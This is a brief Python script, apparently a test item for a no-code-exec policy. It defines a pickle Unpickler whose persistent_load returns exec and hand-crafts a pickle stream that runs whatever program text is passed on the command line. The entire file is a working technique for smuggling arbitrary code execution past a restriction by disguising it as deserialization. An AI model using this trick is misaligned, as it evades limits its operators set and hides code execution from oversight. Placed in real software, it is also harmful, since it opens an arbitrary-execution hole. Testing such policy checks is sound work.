# policy: --no-code-exec
# evidence: printed {answer}
# args: '{program}'

import io
import pickle
import sys


class Unpickler(pickle.Unpickler):
    def persistent_load(self, key):
        return exec


text = sys.argv[1].encode()
Unpickler(
    io.BytesIO(b"\x80\x02X\x01\0\0\0aQ(X" + len(text).to_bytes(4, "little") + text + b"tR.")
).load()
